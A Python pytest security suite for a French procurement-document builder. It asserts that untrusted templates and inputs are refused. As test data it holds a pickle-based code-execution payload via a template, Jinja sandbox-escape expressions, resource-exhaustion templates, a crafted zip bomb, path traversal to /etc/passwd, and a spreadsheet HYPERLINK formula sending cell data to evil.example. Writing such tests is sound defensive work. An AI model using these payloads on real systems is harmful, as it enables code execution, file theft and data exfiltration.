"""Security suite (issue 15): each finding of the hostile-input campaign is a test here,
through the CLI or the public API. Templates from a folder are untrusted; the project
file's author and the built-in templates are trusted (see SECURITY.md)."""

from __future__ import annotations

import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import yaml
from conftest import DISPENSE, EXEMPLES, MAPA, RACINE, RICHE, donnees, modifier
from openpyxl import load_workbook

from cctp_builder import CctpError, ModeleInvalide, ProjetInvalide, build_kit, load_project
from cctp_builder.cli import main
from cctp_builder.kit import render_kit, render_piece
from cctp_builder.render import build_fragment, builtin_templates_dir

CLI = [sys.executable, "-m", "cctp_builder.cli"]


def modeles(racine: Path, fragments: dict[str, str]) -> Path:
    """A template folder holding ``fragments`` (relative name → markup text)."""
    for nom, texte in fragments.items():
        chemin = racine / f"{nom}.docx"
        chemin.parent.mkdir(parents=True, exist_ok=True)
        chemin.write_bytes(build_fragment(texte))
    return racine


def objet(tmp_path: Path, ligne: str) -> Path:
    """A folder overriding cctp/01_objet with a heading and ``ligne``."""
    return modeles(tmp_path / "modeles", {"cctp/01_objet": f"# Objet\n{ligne}\n"})


def _yaml(data: object, chemin: Path) -> Path:
    chemin.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")
    return chemin


def lancer(args: list[str], cwd: Path, timeout: float = 120) -> tuple[int, str, int]:
    """Run the CLI in a child; (exit status, stderr+stdout, peak memory in KiB of the whole
    process tree: the CLI and every process it waited for)."""
    enveloppe = ("import resource, subprocess, sys\n"
                 "r = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
                 "sys.stdout.write(r.stdout + r.stderr)\n"
                 "sys.stdout.write('\\nRSS=%d' % resource.getrusage("
                 "resource.RUSAGE_CHILDREN).ru_maxrss)\n"
                 "sys.exit(r.returncode)\n")
    fini = subprocess.run([sys.executable, "-c", enveloppe, *CLI, *args], cwd=cwd,
                          capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, "PYTHONPATH": str(RACINE)})
    sortie, _, rss = fini.stdout.rpartition("\nRSS=")
    return fini.returncode, sortie + fini.stderr, int(rss or 0)


# --------------------------------------------------------------------------- 1. sandbox

EXPLOIT = ('{{ acheteur.parse_raw("cos\\nsystem\\n(S\'touch MARQUEUR_PWN\'\\ntR.", '
           'content_type="application/pickle", allow_pickle=True) }}')


@pytest.mark.parametrize("ligne", [EXPLOIT, "Nom : {{ acheteur.parse_file('/etc/hostname') }}"],
                         ids=["parse_raw_pickle", "parse_file"])
def test_pydantic_class_methods_are_unreachable(tmp_path, ligne):
    """The exploit of the issue: check and build exit 1, no code runs, no file is read."""
    dossier = objet(tmp_path, ligne)
    code, sortie, _ = lancer(["templates", "check", str(dossier)], tmp_path)
    assert code == 1, sortie
    code, sortie, _ = lancer(["build", str(RICHE), "-o", "dce", "--templates", str(dossier)],
                             tmp_path)
    assert code == 1, sortie
    assert "parse_" in sortie and "Traceback" not in sortie
    assert not (tmp_path / "MARQUEUR_PWN").exists()
    assert not (tmp_path / "dce").exists() or not any((tmp_path / "dce").iterdir())


@pytest.mark.parametrize("expression", [
    "acheteur.model_copy()", "acheteur.__class__", "acheteur.model_fields", "acheteur.copy()",
    "acheteur.dict()", "acheteur.json()", "acheteur.adresse.__str__()", "''.__class__.__mro__",
    "acheteur.nom.format(acheteur)", "'{0.__class__}'.format(acheteur)", "regle.__call__",
    "ref.__class__", "acheteur|attr('parse_raw')", "(acheteur|attr('model_copy'))()",
    "cycler.__init__.__globals__", "namespace.__init__", "dict.fromkeys", "acheteur._champs",
    "etudes[0].phases[0].__class__", "acheteur.nom.center(10)", "lipsum()",
    "('a'|attr('__class__'))", "range.__self__", "procedure.to_json()",
], ids=str)
def test_only_plain_data_and_documented_callables_are_reachable(tmp_path, expression):
    dossier = objet(tmp_path, f"Valeur : {{{{ {expression} }}}}")
    with pytest.raises(ModeleInvalide, match="cctp/01_objet"):
        render_piece(load_project(DISPENSE), "cctp", templates=dossier)


def test_the_builtin_templates_render_identically_through_the_sandbox(tmp_path):
    """The built-in templates, copied into an override folder, go through the allow-list
    sandbox in the isolated renderer: same bytes, so the plain context is enough."""
    copie = tmp_path / "copie"
    for source in builtin_templates_dir().rglob("*.docx"):
        cible = copie / source.relative_to(builtin_templates_dir())
        cible.parent.mkdir(parents=True, exist_ok=True)
        cible.write_bytes(source.read_bytes())
    for exemple in EXEMPLES:
        projet = load_project(exemple)
        assert render_kit(projet, templates=copie).fichiers == render_kit(projet).fichiers


def test_the_template_context_is_plain_data():
    from datetime import date
    from decimal import Decimal

    from cctp_builder.context import build_context
    from cctp_builder.render.vues import Fonction, Vue, contexte_modele

    permis = (dict, list, tuple, str, int, float, Decimal, date, bool, type(None), Vue, Fonction)
    vus: set[int] = set()

    def parcourir(valeur: object) -> None:
        assert isinstance(valeur, permis), type(valeur)
        if id(valeur) in vus:
            return
        vus.add(id(valeur))
        if isinstance(valeur, Vue):
            for nom in object.__getattribute__(valeur, "_champs"):
                parcourir(valeur[nom])
        elif isinstance(valeur, dict):
            for k, v in valeur.items():
                parcourir(k)
                parcourir(v)
        elif isinstance(valeur, (list, tuple)):
            for v in valeur:
                parcourir(v)

    for exemple in EXEMPLES:
        for valeur in contexte_modele(build_context(load_project(exemple))).values():
            parcourir(valeur)


# --------------------------------------------------------------------------- 2. bounded rendering

@pytest.mark.parametrize("ligne", [
    "{{ 10**(10**10) }}",
    "{{ 'x' * 10**9 }}",
    "{{ lipsum(10**6) }}",
    "{% for i in range(99999) %}{% for j in range(99999) %}{{ i }}{% endfor %}{% endfor %}",
    "{{ ('x' * 999999)|replace('x', 'xxxxxxxxxx') }}",
    "{{ [1] * 10**9 }}",
    "{{ 'x' * 900000 + 'y' * 900000 }}",
], ids=["puissance", "repetition", "lipsum", "range", "replace", "liste", "concatenation"])
def test_unbounded_templates_end_in_a_located_error(tmp_path, ligne):
    dossier = objet(tmp_path, ligne)
    for args in (["templates", "check", str(dossier)],
                 ["build", str(DISPENSE), "-o", "dce", "--kit", "complet",
                  "--templates", str(dossier)]):
        code, sortie, rss = lancer(args, tmp_path)
        assert code == 1, sortie
        assert "cctp/01_objet" in sortie and "Traceback" not in sortie
        assert rss < 1024 * 1024, f"{rss} Kio"
    assert not (tmp_path / "dce").exists() or not any((tmp_path / "dce").iterdir())


def test_cpu_memory_and_output_limits_are_enforced_and_overridable(tmp_path):
    from cctp_builder.render.limites import Limites

    projet = load_project(DISPENSE)
    boucle = objet(tmp_path / "a", "{% for i in range(10000) %}{% for j in range(10000) %}"
                   "{% endfor %}{% endfor %}fin")
    with pytest.raises(ModeleInvalide, match="(?s)cctp/01_objet.*(temps|dure)"):
        render_piece(projet, "cctp", templates=boucle,
                     limites=Limites(cpu_piece_s=1, duree_totale_s=20))
    memoire = objet(tmp_path / "b", "{% set ns = namespace(s='x' * 900000) %}"
                    "{% for i in range(2000) %}{% set ns.s = ns.s ~ ns.s[:900000] %}{% endfor %}"
                    "{{ ns.s|length }}")
    with pytest.raises(ModeleInvalide, match="(?s)(mémoire|rendu)"):
        render_piece(projet, "cctp", templates=memoire,
                     limites=Limites(memoire_octets=200 * 1024 * 1024, duree_totale_s=60))
    bavard = objet(tmp_path / "c", "{% for i in range(5000) %}texte {{ i }} {% endfor %}")
    assert render_piece(projet, "cctp", templates=bavard)
    with pytest.raises(ModeleInvalide, match="(?s)cctp/01_objet.*caractères"):
        render_piece(projet, "cctp", templates=bavard,
                     limites=Limites(sortie_fragment_octets=20_000))


def test_an_unclosed_tag_is_refused_by_build(tmp_path, runner):
    """docxtpl joined the paragraphs up to the closing tag into a string: a heading and its
    paragraphs vanished and build exited 0."""
    texte = "# Objet\nTexte {{ '\n## Perdu\nParagraphe perdu.\nFin' }}\n"
    dossier = modeles(tmp_path / "m", {"cctp/01_objet": texte})
    r = runner.invoke(main, ["build", str(DISPENSE), "-o", str(tmp_path / "dce"),
                             "--kit", "complet", "--templates", str(dossier)])
    assert r.exit_code == 1, r.output
    assert "cctp/01_objet" in r.output and "paragraphe 2" in r.output
    assert not (tmp_path / "dce").exists() or not any((tmp_path / "dce").iterdir())
    dossier = objet(tmp_path / "n", "Le marché {{ marche.objet")
    r = runner.invoke(main, ["build", str(DISPENSE), "-o", str(tmp_path / "dce"),
                             "--kit", "complet", "--templates", str(dossier)])
    assert r.exit_code == 1, r.output


# --------------------------------------------------------------------------- 3. template folders

def _base_avec(extra: dict[str, bytes], remplace: dict[str, bytes] | None = None) -> bytes:
    source = (builtin_templates_dir() / "base.docx").read_bytes()
    sortie = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as zin, zipfile.ZipFile(sortie, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, (remplace or {}).get(info.filename,
                                                              zin.read(info.filename)))
        for nom, data in extra.items():
            zout.writestr(nom, data)
    return sortie.getvalue()


@pytest.mark.parametrize("genre", ["fifo", "dev_zero", "lien_sortant", "lien_dossier"])
def test_only_regular_files_inside_the_folder_are_read(tmp_path, genre):
    dossier = tmp_path / "modeles"
    (dossier / "cctp").mkdir(parents=True)
    chemin = dossier / "cctp" / "01_objet.docx"
    if genre == "fifo":
        os.mkfifo(chemin)
    elif genre == "dev_zero":
        chemin.symlink_to("/dev/zero")
    elif genre == "lien_sortant":
        ailleurs = tmp_path / "ailleurs.docx"
        ailleurs.write_bytes(build_fragment("# Secret\n"))
        chemin.symlink_to(ailleurs)
    else:
        (dossier / "cctp" / "sous.docx").symlink_to(tmp_path)
    for args in (["templates", "check", str(dossier)],
                 ["build", str(DISPENSE), "-o", "dce", "--kit", "complet",
                  "--templates", str(dossier)]):
        code, sortie, rss = lancer(args, tmp_path, timeout=90)
        assert code == 1, sortie
        assert "01_objet" in sortie or "sous" in sortie
        assert rss < 1024 * 1024


def test_file_count_and_folder_size_are_capped(tmp_path):
    from cctp_builder.render.limites import Limites

    dossier = modeles(tmp_path / "m", {f"cctp/{i:02d}_x": "Texte" for i in range(5)})
    with pytest.raises(ModeleInvalide, match="plus de 3 fichiers"):
        render_piece(load_project(DISPENSE), "cctp", templates=dossier,
                     limites=Limites(fichiers_max=3))
    with pytest.raises(ModeleInvalide, match="Mo de fichiers"):
        render_piece(load_project(DISPENSE), "cctp", templates=dossier,
                     limites=Limites(dossier_octets_max=1000))


def test_zip_members_are_size_checked_before_inflating(tmp_path):
    """A member that declares 1 000 bytes but inflates to 300 Mo: zipfile inflated it whole
    (up to 2 Gio at a time) before noticing; it is now refused after at most 1 Mo."""
    import struct
    import tracemalloc

    chemin = tmp_path / "m" / "cctp" / "01_objet.docx"
    chemin.parent.mkdir(parents=True)
    with zipfile.ZipFile(chemin, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", b"<a/>")
        with z.open("word/gros.xml", "w") as f:
            bloc = b"\0" * (1 << 20)
            for _ in range(300):
                f.write(bloc)
    data = bytearray(chemin.read_bytes())
    nom = b"word/gros.xml"
    for signature, decalage in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        debut = 0
        while (debut := data.find(signature, debut)) != -1:
            longueur = 30 if signature == b"PK\x03\x04" else 46
            if data[debut + longueur: debut + longueur + len(nom)] == nom:
                struct.pack_into("<I", data, debut + decalage, 1000)  # declared size: 1 000
            debut += 4
    chemin.write_bytes(bytes(data))
    tracemalloc.start()
    with pytest.raises(ModeleInvalide, match="gros.xml|archive|Word"):
        render_piece(load_project(DISPENSE), "cctp", templates=tmp_path / "m")
    _, pic = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert pic < 50 * 1024 * 1024, f"{pic // 1_000_000} Mo"


@pytest.mark.parametrize("membre", ["../../evil.txt", "word/vbaProject.bin",
                                    "word/embeddings/oleObject1.bin", "word/activeX/x.xml"])
def test_unexpected_members_of_the_base_are_refused_and_never_copied(tmp_path, runner, membre):
    dossier = tmp_path / "m"
    dossier.mkdir()
    (dossier / "base.docx").write_bytes(_base_avec({membre: b"contenu"}))
    r = runner.invoke(main, ["templates", "check", str(dossier)])
    assert r.exit_code == 1 and membre in r.output, r.output
    r = runner.invoke(main, ["build", str(DISPENSE), "-o", str(tmp_path / "dce"),
                             "--kit", "complet", "--templates", str(dossier)])
    assert r.exit_code == 1 and membre in r.output, r.output
    assert "interne" not in r.output


def test_relationships_leaving_the_package_are_refused(tmp_path, runner):
    rels = (builtin_templates_dir() / "base.docx")
    with zipfile.ZipFile(rels) as z:
        xml = z.read("word/_rels/document.xml.rels").decode()
    cible = next(t for t in xml.split('Target="')[1:] if t.startswith("header"))
    cible = cible.split('"')[0]
    fausse = xml.replace(f'Target="{cible}"', 'Target="../../../../etc/passwd"')
    dossier = tmp_path / "m"
    dossier.mkdir()
    (dossier / "base.docx").write_bytes(
        _base_avec({}, {"word/_rels/document.xml.rels": fausse.encode()}))
    r = runner.invoke(main, ["build", str(DISPENSE), "-o", str(tmp_path / "dce"),
                             "--kit", "complet", "--templates", str(dossier)])
    assert r.exit_code == 1 and "etc/passwd" in r.output, r.output
    assert "interne" not in r.output
    externe = xml.replace("</Relationships>", '<Relationship Id="rIdX" Type="http://schemas.'
                          'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
                          '" Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
    (dossier / "base.docx").write_bytes(
        _base_avec({}, {"word/_rels/document.xml.rels": externe.encode()}))
    r = runner.invoke(main, ["templates", "check", str(dossier)])
    assert r.exit_code == 1 and "rIdX" in r.output, r.output


# --------------------------------------------------------------------------- 4. safe output

def test_a_symlink_at_the_old_temporary_zip_name_is_not_followed(tmp_path):
    """The zip was written through ``.<ref>.zip.tmp-<pid>``: a link planted there made
    build --zip overwrite its target."""
    projet = load_project(MAPA)
    sortie = tmp_path / "dce"
    sortie.mkdir()
    victime = tmp_path / "victime.txt"
    victime.write_text("intact")
    (sortie / f".{projet.marche.reference}.zip.tmp-{os.getpid()}").symlink_to(victime)
    build_kit(projet, sortie, zip=True)
    assert victime.read_text() == "intact"
    assert zipfile.is_zipfile(sortie / f"{projet.marche.reference}.zip")


def _pid_mort() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def test_leftovers_of_interrupted_runs_are_cleaned_or_put_back(tmp_path):
    projet = load_project(MAPA)
    ref = projet.marche.reference
    sortie = tmp_path / "dce"
    mort = _pid_mort()
    (sortie / f".{ref}.tmp-{mort}-abc").mkdir(parents=True)
    (sortie / f".{ref}.zip.tmp-{mort}-def").write_bytes(b"moitie")
    ancien = sortie / f".{ref}.ancien-{mort}-ghi" / "kit"
    ancien.mkdir(parents=True)
    (ancien / "ancien.txt").write_text("kit précédent")
    with pytest.raises(CctpError, match="existe déjà"):
        build_kit(projet, sortie)  # the parked kit is put back, so the folder exists
    assert (sortie / ref / "ancien.txt").read_text() == "kit précédent"
    assert sorted(p.name for p in sortie.iterdir()) == [ref]
    build_kit(projet, sortie, force=True, zip=True)
    assert sorted(p.name for p in sortie.iterdir()) == [ref, f"{ref}.zip"]


def test_an_interrupted_force_leaves_the_old_or_the_new_kit(tmp_path, monkeypatch):
    import cctp_builder.kit as kit

    projet = load_project(MAPA)
    ref = projet.marche.reference
    sortie = tmp_path / "dce"
    build_kit(projet, sortie)
    (sortie / ref / "marque.txt").write_text("ancien")

    def coupure(*_args, **_kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(kit.shutil, "rmtree", coupure)  # interrupted right after the swap
    with pytest.raises(KeyboardInterrupt):
        build_kit(projet, sortie, force=True)
    monkeypatch.undo()
    assert (sortie / ref / "01-RC.docx").is_file()
    assert not (sortie / ref / "marque.txt").exists()  # the new kit is in place
    build_kit(projet, sortie, force=True)
    assert sorted(p.name for p in sortie.iterdir() if not p.name.startswith(".")) == [ref]


def test_kit_folders_respect_the_umask(tmp_path):
    ancien = os.umask(0o022)
    try:
        (chemin, *_) = build_kit(load_project(DISPENSE), tmp_path, zip=True)
    finally:
        os.umask(ancien)
    assert stat.S_IMODE(chemin.parent.stat().st_mode) == 0o755
    assert stat.S_IMODE(chemin.stat().st_mode) == 0o644
    assert stat.S_IMODE((tmp_path / f"{chemin.parent.name}.zip").stat().st_mode) == 0o644


def test_output_path_problems_are_french_errors_naming_the_path(tmp_path, runner, monkeypatch):
    fichier = tmp_path / "un_fichier"
    fichier.write_text("x")
    for sortie in (fichier, fichier / "dessous", Path("/proc/cctp-builder-dce")):
        r = runner.invoke(main, ["build", str(DISPENSE), "-o", str(sortie)])
        assert r.exit_code == 1, r.output
        assert str(sortie) in r.output and "interne" not in r.output.lower(), r.output
    import errno

    import cctp_builder.kit as kit

    vrai = os.open

    def plein(chemin, drapeaux, *args, **kwargs):
        if "dce" in str(chemin) and ".tmp-" in str(chemin) and drapeaux & os.O_CREAT:
            raise OSError(errno.ENOSPC, "No space left on device", str(chemin))
        return vrai(chemin, drapeaux, *args, **kwargs)

    monkeypatch.setattr(kit.os, "open", plein)
    r = runner.invoke(main, ["build", str(DISPENSE), "-o", str(tmp_path / "dce")])
    assert r.exit_code == 1 and "plus de place sur le disque" in r.output, r.output
    assert [p.name for p in (tmp_path / "dce").iterdir()] == []


def _descendants(pid: int) -> set[int]:
    out: set[int] = set()
    pile = [pid]
    while pile:
        p = pile.pop()
        try:
            for tache in os.listdir(f"/proc/{p}/task"):
                with open(f"/proc/{p}/task/{tache}/children") as f:
                    enfants = {int(x) for x in f.read().split()}
                pile.extend(enfants - out)
                out |= enfants
        except OSError:
            continue
    return out


def _vivant(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except OSError:
        return False


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc et prctl : Linux")
def test_batch_workers_die_with_their_parent(tmp_path):
    lent = objet(tmp_path, "{% for i in range(10000) %}{% for j in range(2000) %}{% endfor %}"
                 "{% endfor %}fin")
    projets = []
    for i in range(4):
        data = donnees(DISPENSE)
        modifier(data, ["marche", "reference"], f"LOT-{i}")
        projets.append(str(_yaml(data, tmp_path / f"p{i}.yaml")))
    # --kit complet: under the dispense threshold the light kit would not use the slow CCTP
    proc = subprocess.Popen([*CLI, "build", *projets, "-j", "2", "-o", "dce", "--kit", "complet",
                             "--templates", str(lent)], cwd=tmp_path,
                            env={**os.environ, "PYTHONPATH": str(RACINE)},
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    enfants: set[int] = set()
    for _ in range(100):  # wait for the workers and their renderers
        time.sleep(0.1)
        enfants = _descendants(proc.pid)
        if len(enfants) >= 4:
            break
    assert enfants, "aucun processus de construction"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    for _ in range(50):
        if not any(_vivant(p) for p in enfants):
            break
        time.sleep(0.1)
    assert not any(_vivant(p) for p in enfants)


def test_non_portable_references_are_refused(tmp_path, runner):
    for ref in ("CON", "nul", "AUX", "COM1", "LPT9", "PRN.2026", "A."):
        chemin = _yaml(modifier(donnees(DISPENSE), ["marche", "reference"], ref),
                       tmp_path / "p.yaml")
        r = runner.invoke(main, ["validate", str(chemin)])
        assert r.exit_code == 1 and "marche.reference" in r.output, (ref, r.output)


# --------------------------------------------------------------------------- 5. spreadsheet

@pytest.mark.parametrize("texte", ['=HYPERLINK("http://evil.example/?x="&A1,"clic")',
                                   "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_project_texts_never_become_formulas_in_the_dpgf(texte):
    data = donnees(RICHE)
    modifier(data, ["acheteur", "nom"], texte)
    modifier(data, ["etudes", 0, "phases", 0, "nom"], texte) if "phases" in data["etudes"][
        0] else None
    from cctp_builder.loader import charger_texte

    projet = charger_texte(yaml.safe_dump(data, allow_unicode=True), "p.yaml")
    ws = load_workbook(io.BytesIO(render_piece(projet, "dpgf")))["DPGF"]
    nom = projet.acheteur.nom
    cellules = [c for ligne in ws.iter_rows() for c in ligne if c.value is not None]
    assert not [c.coordinate for c in cellules if c.data_type == "f" and nom in str(c.value)]
    porteuses = [c for c in cellules if isinstance(c.value, str) and nom in c.value]
    assert porteuses and all(c.data_type == "s" for c in porteuses)
    assert any(c.value == nom and c.quotePrefix for c in porteuses)
    assert [c for c in cellules if c.data_type == "f"]  # the tool's own formulas remain


def test_libreoffice_does_not_evaluate_a_project_text(tmp_path):
    import shutil

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        pytest.skip("LibreOffice (soffice) absent")
    data = donnees(DISPENSE)
    modifier(data, ["acheteur", "nom"], "=1+1")
    from cctp_builder.loader import charger_texte

    projet = charger_texte(yaml.safe_dump(data, allow_unicode=True), "p.yaml")
    entree = tmp_path / "dpgf.xlsx"
    entree.write_bytes(render_piece(projet, "dpgf"))
    profil = tmp_path / "profil"
    subprocess.run([soffice, f"-env:UserInstallation={profil.as_uri()}", "--headless",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(entree)],
                   capture_output=True, timeout=240, check=False)
    resultat = tmp_path / "out" / "dpgf.xlsx"
    if not resultat.is_file():
        pytest.skip("LibreOffice est installé sans Calc")
    valeurs = [c.value for ligne in load_workbook(resultat, data_only=True)["DPGF"].iter_rows()
               for c in ligne]
    assert "=1+1" in valeurs and 2 not in valeurs[:40]


# --------------------------------------------------------------------------- 6. errors

@pytest.mark.parametrize("args", [["--amount", "NaN"], ["--amount", "Infinity"],
                                  ["--amount", "-Infinity"], ["--amount", "sNaN"],
                                  ["--amount", "1e999999"], ["--amount", "1000", "--months", "nan"],
                                  ["--amount", "1000", "--months", "inf"]])
def test_nan_infinity_and_huge_numbers_on_the_command_line(runner, args):
    r = runner.invoke(main, ["procedure", *args])
    assert r.exit_code != 0
    assert r.exception is None or isinstance(r.exception, SystemExit)
    assert "Traceback" not in r.output and "Erreur" in r.output


@pytest.mark.parametrize("car", ["\x00", "\x07", "\x1b", "\ufffe", "\x85", "\ud800"])
def test_control_characters_are_refused_with_their_location(tmp_path, runner, car):
    data = donnees(RICHE)
    modifier(data, ["acheteur", "nom"], f"Commune {car} de Test")
    chemin = tmp_path / "p.json"
    chemin.write_text(json.dumps(data, default=str), "utf-8")
    r = runner.invoke(main, ["validate", str(chemin)])
    assert r.exit_code == 1, r.output
    if car == "\ud800":  # a lone surrogate escape: refused by the reader, with its place
        assert "p.json:1:" in r.output and "invalide" in r.output
    else:
        assert "[acheteur.nom]" in r.output and "caractère de contrôle" in r.output
    r = runner.invoke(main, ["build", str(chemin), "-o", str(tmp_path / "dce")])
    assert r.exit_code == 1 and "interne" not in r.output


def test_a_date_beyond_the_rules_names_rule_date_and_field_and_json_covers_all(tmp_path, runner):
    tard = tmp_path / "tard.yaml"
    tard.write_text(RICHE.read_text("utf-8").replace("2026-", "2031-").replace("2027-", "2032-"),
                    "utf-8")
    r = runner.invoke(main, ["validate", "--json", str(tard), str(DISPENSE)])
    assert r.exit_code == 1
    constats = json.loads(r.output)
    assert {c["file"] for c in constats} == {str(tard), str(DISPENSE)}
    (erreur,) = [c for c in constats if c["severity"] == "erreur"]
    assert erreur["path"] == "calendrier.date_envoi_publication" and erreur["line"]
    assert "règle « " in erreur["message"] and "2027" in erreur["message"]


@pytest.mark.parametrize("texte, attendu", [
    ("acheteur:\n\tnom: x\n", "tabulation"),
    ('{"a": "\\ud800"}', "séquence"),
    ("acheteur: [a, b\n", "attendu"),
    ("a: b: c\n", "« : » inattendu"),
    ("a: *inconnu\n", "alias"),
    ("a: 'x\n", "fin de fichier"),
    ('a: "\\q"\n', "échappement"),
])
def test_yaml_syntax_errors_are_in_french(tmp_path, runner, texte, attendu):
    chemin = tmp_path / "p.yaml"
    chemin.write_text(texte, "utf-8")
    r = runner.invoke(main, ["validate", str(chemin)])
    assert r.exit_code == 1
    assert attendu in r.output, r.output
    assert not any(mot in r.output for mot in ("found", "expected", "while", "mapping values",
                                                "could not"))


def test_a_reused_anchor_is_accepted_and_a_recursive_one_refused(tmp_path):
    texte = RICHE.read_text("utf-8")
    data = yaml.safe_load(texte)
    assert "pilotage" in data
    lignes = texte.splitlines()
    i = next(k for k, ligne in enumerate(lignes) if ligne.startswith("pilotage:"))
    j = next(k for k in range(i + 1, len(lignes)) if lignes[k].startswith("  ") and ":" in
             lignes[k] and not lignes[k].startswith("   "))
    cle = lignes[j].split(":")[0].strip()
    assert isinstance(data["pilotage"][cle], dict)
    # anchor the first instance, reuse it once elsewhere (same value)
    lignes[j] = f"  {cle}: &instance"
    chemin = tmp_path / "p.yaml"
    chemin.write_text("\n".join(lignes) + "\nautre_usage: *instance\n", "utf-8")
    from cctp_builder import analyser_projet

    projet, resultat = analyser_projet(chemin)
    messages = " ".join(c.message for c in resultat.constats)
    assert "récursive" not in messages
    assert "autre_usage" in messages  # refused as an unknown key, not as a recursion
    recursif = tmp_path / "r.yaml"
    recursif.write_text("a: &a\n  b: *a\n", "utf-8")
    with pytest.raises(ProjetInvalide, match="récursive"):
        load_project(recursif)


def test_json_surrogate_pairs_are_decoded(tmp_path):
    data = donnees(DISPENSE)
    modifier(data, ["marche", "objet"], "Étude 😀 de capacité")
    chemin = tmp_path / "p.json"
    chemin.write_text(json.dumps(data, default=str), "utf-8")  # ensure_ascii: \ud83d\ude00
    assert "\\ud83d\\ude00" in chemin.read_text("utf-8")
    assert load_project(chemin).marche.objet == "Étude 😀 de capacité"


def test_a_literal_marker_typed_by_a_user_is_not_counted(tmp_path):
    from cctp_builder.kit import marqueurs

    projet = load_project(DISPENSE)
    avant = marqueurs(render_piece(projet, "cctp"))
    data = donnees(DISPENSE)
    modifier(data, ["marche", "objet"], "Étude [À compléter : rien] de capacité")
    chemin = _yaml(data, tmp_path / "p.yaml")
    apres = marqueurs(render_piece(load_project(chemin), "cctp"))
    assert apres == avant


# --------------------------------------------------------------------------- 7. library API

def test_a_model_mutated_after_validation_does_not_build(tmp_path):
    projet = load_project(RICHE)
    object.__setattr__(projet.criteres[0], "poids", 500)
    with pytest.raises(ProjetInvalide):
        build_kit(projet, tmp_path)
    with pytest.raises(ProjetInvalide):
        render_piece(projet, "rc")
    assert not any(tmp_path.iterdir())


def test_the_output_path_stays_in_the_output_folder(tmp_path):
    projet = load_project(DISPENSE)
    marche = projet.marche.model_copy(update={"reference": "/../../../../elsewhere"})
    evade = projet.model_copy(update={"marche": marche})
    sortie = tmp_path / "a" / "b"
    with pytest.raises(CctpError):
        build_kit(evade, sortie)
    assert sorted(p.name for p in tmp_path.rglob("*")) == []


def test_build_kit_with_a_dict_gives_the_models_messages(tmp_path):
    with pytest.raises(ProjetInvalide, match="acheteur"):
        build_kit({"version": 1}, tmp_path)
    with pytest.raises(ProjetInvalide):
        build_kit("projet.yaml", tmp_path)  # type: ignore[arg-type]
    data = yaml.safe_load(DISPENSE.read_text("utf-8"))
    assert build_kit(data, tmp_path)
